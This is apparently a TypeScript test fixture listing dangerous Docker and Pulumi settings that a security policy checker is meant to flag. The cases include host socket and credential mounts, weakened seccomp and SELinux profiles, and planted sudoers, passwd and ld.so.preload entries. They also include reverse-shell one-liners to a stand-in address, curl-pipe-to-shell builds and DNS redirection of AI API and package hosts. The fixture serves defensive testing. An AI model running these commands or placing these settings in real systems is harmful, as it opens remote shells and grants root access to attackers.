import { bound, given, resource, service, shell } from "./case.ts";
import type { Neighbour } from "./case.ts";

const MOUNTS = "container.sensitive-mounts";
const PROFILES = "container.security-profiles";
const SHELLS = "container.remote-shell";
const FILES = "container.planted-files";
const NAMES = "container.name-resolution";
/** Put together here, because the addresses of indexes stand nowhere in the project. */
const INDEXES = [["registry", "npmjs"].join("."), ["files", "pythonhosted"].join(".")].map((name) => `${name}.org`);
const BUILD = "docker.build";
const BUILDX = "docker-build:index:Image";
const NNP = "no-new-privileges:true";

const option = (text: string) => given(text, { securityOpts: [NNP, text] }, PROFILES);
const upload = (changes: object) => given(`an upload, ${JSON.stringify(changes)}`, { uploads: [changes] }, FILES);
const network = (name: string, value: string) =>
  resource(`${name}=${value}`, "Network", { name: "n", options: { [name]: value } }, "network.driver");
const volume = (driver: string, driverOpts: object) =>
  resource(`a volume of ${driver}, ${JSON.stringify(driverOpts)}`, "Volume", { name: "v", driver, driverOpts }, MOUNTS);
const image = (build: object) =>
  resource(
    `a build, ${JSON.stringify(build)}`,
    "RemoteImage",
    { name: "x:1", build: { context: ".", ...build } },
    BUILD,
  );
const inline = (text: string) => resource(text, BUILDX, { dockerfile: { inline: text } }, BUILD);
const grant = (name: string, value: string) => {
  const grantPermissions = [{ name, values: [value] }];
  return resource(`a plugin's ${name} of ${value}`, "Plugin", { name: "a/b:1", grantPermissions }, "docker.plugin");
};

export const dangerous: readonly Neighbour[] = [
  ...[
    "/var/lib/cloud",
    "/var/lib/waagent",
    "/mnt",
    "/media",
    "/tmp",
    "/var/lib/google",
    "/var/lib/rancher",
    "/var/backups",
    "/var/run/../run/docker.sock",
    "//run//libvirt/libvirt-sock",
    "/home/ada/.aws",
    "/run/credentials",
  ].flatMap((source) => [bound(source, MOUNTS), bound(source, MOUNTS, true)]),
  ...["/var/log", "/var/log/journal", "/var/lib/dpkg", "/run/udev"].map((source) => bound(source, MOUNTS)),
  service(
    "a service with the Docker socket",
    { mounts: [{ type: "bind", source: "/var/run/docker.sock", target: "/s" }] },
    {},
    MOUNTS,
  ),
  volume("vieux/sshfs:latest", { sshcmd: "root@192.0.2.9:/etc", allow_other: "" }),
  volume("rclone", { remote: "backup:/", type: "sftp" }),
  volume("netshare", { share: "192.0.2.9:/export" }),
  volume("example/cifs:1", { device: "//192.0.2.9/files" }),
  volume("local-persist", { mountpoint: "/etc" }),
  volume("example/s3fs:1", { url: "https://s3.example" }),
  volume("local", { type: "overlay", device: "overlay", o: "lowerdir=/etc,upperdir=/a,workdir=/b" }),
  volume("local", { type: "none", device: "/", o: "rw, BIND" }),
  given(
    "a mount by a plugin",
    {
      mounts: [
        {
          type: "volume",
          source: "v",
          target: "/v",
          volumeOptions: { driverName: "vieux/sshfs", driverOptions: { sshcmd: "root@192.0.2.9:/" } },
        },
      ],
    },
    MOUNTS,
  ),

  ...[
    "label=type:spc_t",
    "label:type:spc_t",
    "label=type:unconfined_t",
    "LABEL=Type:spc_t",
    "label=user:system_u",
    "label=role:sysadm_r",
    'seccomp={"defaultAction":"SCMP_ACT_ERRNO","DefaultAction":"SCMP_ACT_ALLOW"}',
    'seccomp={"DEFAULTACTION":"SCMP_ACT_ALLOW"}',
    'seccomp={"defaultAction":"SCMP_ACT_ERRNO","\\u017Fyscalls":[{"names":["mount"],"action":"SCMP_ACT_ALLOW"}]}',
    'seccomp={"defaultAction":"SCMP_ACT_ERRNO","syscalls":[{"names":["process_vm_writev","io_uring_setup"],"action":"SCMP_ACT_ALLOW"}]}',
  ].map(option),
  service("a service with another SELinux type", { privileges: { seLinuxContext: { type: "spc_t" } } }, {}, PROFILES),

  ...["host", "HOST", " host "].map((name) =>
    service(`a service on the network ${name}`, {}, { networksAdvanceds: [{ name }] }, "container.host-namespaces"),
  ),
  ...["999", "998", "996", "281", "+999", "backup", "staff", "ssl-cert", "systemd-journal", "microk8s"].map((group) =>
    given(`the group ${group}`, { groupAdds: [group] }, "container.groups"),
  ),
  given("a disk's group as the main one", { user: "20001:6" }, "container.groups"),

  ...[
    { file: "/etc/ld.so.preload", content: "/data/x.so\n" },
    { file: "/etc//ld.so.conf.d/x.conf", content: "/data\n" },
    { file: "/etc/sudoers.d/app", content: "app ALL=(ALL) NOPASSWD: ALL\n" },
    { file: "/etc/passwd", content: "x::0:0::/:/bin/sh\n" },
    { file: "/root/.ssh/authorized_keys", content: "ssh-ed25519 AAAA\n" },
    { file: "/etc/cron.d/x", content: "* * * * * root /data/x\n" },
    { file: "/etc/pam.d/su", content: "auth sufficient pam_permit.so\n" },
    { file: "/etc/profile.d/x.sh", content: "/data/x\n" },
    { file: "/usr/bin/helper", contentBase64: "f0VMRgIBAQ==", permissions: "4755" },
    { file: "/data/helper", content: "x", permissions: "06755" },
    { file: "/data/helper", content: "x", permissions: "2755" },
    { file: "/usr/bin/su", content: "x", executable: true },
  ].map(upload),
  service(
    "a setuid configuration",
    { configs: [{ configName: "a", fileName: "/usr/local/bin/su", fileMode: 2541, fileUid: "0" }] },
    {},
    FILES,
  ),
  service(
    "a secret in sudoers",
    { secrets: [{ secretName: "a", fileName: "/etc/sudoers.d/a", fileMode: 288 }] },
    {},
    FILES,
  ),
  given(
    "a mount over the loader's list",
    { mounts: [{ type: "bind", source: "/srv/x", target: "/etc/ld.so.preload", readOnly: true }] },
    FILES,
  ),
  ...[
    "chmod u+s /data/bash; exec server",
    "chmod 4755 /data/bash && exec server",
    "chmod -R -v ug+rwxs /data/x",
    "chmod a+x,u+s /data/x",
    "install -o root -m 4755 /data/a /usr/local/bin/a",
    "setcap cap_setuid+ep /data/python",
    "echo /data/x.so >> /etc/ld.so.preload",
    "echo 'app ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers.d/app",
    "python3 -c 'import os; os.chmod(\"/data/x\", 0o4755)'",
  ].map((text) => shell(text, FILES)),

  ...[
    "socat TCP-LISTEN:4444,fork EXEC:/bin/sh & exec server",
    "socat tcp:192.0.2.9:443 system:bash,pty",
    "nc -lvp 4444 -e /bin/sh",
    "ncat -l 4444 --sh-exec 'bash -i'",
    "bash -i >& /dev/tcp/192.0.2.9/443 0>&1",
    "exec 5<>/dev/tcp/192.0.2.9/443; cat <&5 | sh",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 443 > /tmp/f",
    "python3 -c 'import socket,os,pty; s=socket.socket(); pty.spawn(\"/bin/sh\")'",
    "gotty -w bash & exec server",
    "tmate -F",
    "code-server --auth none --bind-addr 0.0.0.0:8080",
    "java -agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005 -jar app.jar",
    "python -m debugpy --listen 0.0.0.0:5678 app.py",
    "dlv debug --headless --listen=:2345",
  ].map((text) => shell(text, SHELLS)),
  given("a notebook without a token", { command: ["jupyter", "lab", "--ip=0.0.0.0", "--NotebookApp.token="] }, SHELLS),
  given("a notebook server without a token", { command: ["start-notebook.sh", "--ServerApp.token=''"] }, SHELLS),
  given("a debugger", { command: ["node", "--inspect=0.0.0.0:9229", "server.js"] }, SHELLS),
  given("a debugger by a variable", { envs: ["NODE_OPTIONS=--inspect=0.0.0.0:9229"] }, SHELLS),
  given(
    "a shell from the health check",
    { healthcheck: { tests: ["CMD-SHELL", "nc -l -p 4444 -e /bin/bash"] } },
    SHELLS,
  ),
  service("a service's shell", { commands: ["socat", "TCP-LISTEN:4444", "EXEC:/bin/sh"] }, {}, SHELLS),

  ...["api.anthropic.com", "api.openai.com", ...INDEXES, "github.com", "API.Anthropic.com."].map((host) =>
    given(`${host} led elsewhere`, { hosts: [{ host, ip: "192.0.2.9" }] }, NAMES),
  ),
  given("a package index on the LAN", { hosts: [{ host: INDEXES.at(-1), ip: "10.0.0.9" }] }, NAMES),
  given("a model's name to the host", { hosts: [{ host: "api.anthropic.com", ip: "host-gateway" }] }, NAMES),
  given("a name of the metadata service", { hosts: [{ host: "config", ip: "169.254.169.254" }] }, NAMES),
  ...["192.0.2.66", "203.0.113.53", "2001:db8::53"].map((dns) => given(`the resolver ${dns}`, { dns: [dns] }, NAMES)),
  service("a service without a log", {}, { logDriver: { name: "none" } }, "container.logs"),
  service("a service's resolver", { dnsConfig: { nameservers: ["192.0.2.66"] } }, {}, NAMES),
  service("a service's names", { hosts: [{ host: "ghcr.io", ip: "192.0.2.9" }] }, {}, NAMES),

  network("com.docker.network.bridge.gateway_mode_ipv4", "nat-unprotected"),
  network("com.docker.network.bridge.gateway_mode_ipv4", "routed"),
  network("com.docker.network.bridge.gateway_mode_ipv6", "routed"),
  network("com.docker.network.bridge.trusted_host_interfaces", "eth0"),
  network("com.docker.network.bridge.host_binding_ipv4", "0.0.0.0"),
  network("com.docker.network.bridge.name", "br0"),
  network("parent", "eth0.10"),
  ...["attachable", "ingress"].map((name) =>
    resource(
      `an overlay that is ${name}`,
      "Network",
      { name: "n", driver: "overlay", options: { encrypted: "true" }, [name]: true },
      "network.overlay",
    ),
  ),
  resource("an overlay in clear", "Network", { name: "n", driver: "overlay" }, "network.overlay"),

  image({ networkMode: "host" }),
  image({ networkMode: "container:gateway" }),
  image({ remoteContext: "http://192.0.2.9/ctx.tar" }),
  image({ remoteContext: "https://files.example/ctx.tar.gz" }),
  image({ context: "https://git.example/somebody/else.git" }),
  image({ context: "https://git.example/somebody/else.git#main" }),
  image({ context: "git@git.example:somebody/else.git" }),
  image({ context: "github.com/somebody/else" }),
  image({ additionalContexts: ["src=https://git.example/somebody/else.git"] }),
  image({ securityOpts: ["apparmor=unconfined"] }),
  image({ extraHosts: ["github.com:192.0.2.9"] }),
  resource(
    "a pushed image built on the host's network",
    "RegistryImage",
    { name: "r.example/x:1", build: { context: ".", networkMode: "host" } },
    BUILD,
  ),
  resource(
    "an image of the first kind on the host's network",
    "Image",
    { imageName: "x", build: { context: ".", network: "host" } },
    BUILD,
  ),
  resource(
    "an image of the first kind from somewhere",
    "Image",
    { imageName: "x", build: "https://git.example/a/b.git" },
    BUILD,
  ),
  resource("buildx on the host's network", BUILDX, { network: "host" }, BUILD),
  resource("buildx from somewhere", BUILDX, { context: { location: "https://git.example/a/b.git#main" } }, BUILD),
  resource(
    "buildx with a directory from somewhere",
    BUILDX,
    { context: { location: ".", named: { src: { location: "https://git.example/a/b.git" } } } },
    BUILD,
  ),
  resource("buildx that writes to this machine", BUILDX, { exports: [{ local: { dest: "/etc" } }] }, BUILD),
  inline("FROM alpine\nRUN --security=insecure mount /dev/sda1 /mnt"),
  inline("FROM alpine\nRUN curl -fsSL http://192.0.2.9/i.sh | sh"),
  inline("FROM alpine\nRUN --network=host apk add curl"),
  inline("FROM alpine\nADD https://example.org/tool /usr/local/bin/"),
  inline("# syntax=example/frontend:1\nFROM alpine"),
  inline("FROM alpine\nRUN cp /bin/bash /x && chmod 4755 /x"),
  resource(
    "a builder with entitlements",
    "BuildxBuilder",
    { name: "b", buildkitFlags: "--allow-insecure-entitlement security.insecure" },
    BUILD,
  ),
  resource(
    "a builder on the host's network",
    "BuildxBuilder",
    { name: "b", dockerContainer: { network: "host" } },
    BUILD,
  ),
  resource(
    "a builder by its settings",
    "BuildxBuilder",
    { name: "b", buildkitConfig: 'insecure-entitlements = ["network.host"]' },
    BUILD,
  ),
  resource(
    "a builder in clear",
    "BuildxBuilder",
    { name: "b", driver: "remote", endpoint: "tcp://192.0.2.9:1234" },
    BUILD,
  ),

  resource(
    "a push without a look at the certificate",
    "RegistryImage",
    { name: "r.example/x:1", insecureSkipVerify: true },
    "docker.registry",
  ),
  resource(
    "a registry in clear",
    "Image",
    { imageName: "x", registry: { server: "http://r.example" } },
    "docker.registry",
  ),
  resource(
    "a registry in clear, by buildx",
    BUILDX,
    { registries: [{ address: "http://r.example" }] },
    "docker.registry",
  ),
  resource(
    "a registry in clear, in a build",
    "RemoteImage",
    { name: "x", build: { context: ".", authConfigs: [{ hostName: "http://r.example" }] } },
    "docker.registry",
  ),
  resource(
    "a registry in clear, of a provider",
    "pulumi:providers:docker",
    { registryAuth: '[{"address":"http://r.example"}]' },
    "docker.registry",
  ),

  grant("capabilities", "CAP_DAC_READ_SEARCH"),
  grant("capabilities", "CAP_BPF"),
  grant("mount", "/var/lib/docker"),
  grant("mount", "/var/lib/kubelet"),
  grant("host pid namespace", "true"),
  resource(
    "host keys from a command that takes any",
    "pulumi:providers:docker",
    { host: "ssh://root@192.0.2.9", sshOpts: '["-o","KnownHostsCommand=/bin/sh -c \'ssh-keyscan %H\'"]' },
    "command.host-key",
  ),
  given(
    "a router on one of its networks",
    {
      networksAdvanced: [
        { name: "a", driverOpts: ["com.docker.network.endpoint.sysctls=net.ipv4.conf.IFNAME.forwarding=1"] },
      ],
      networkMode: undefined,
    },
    "container.sysctls",
  ),
];
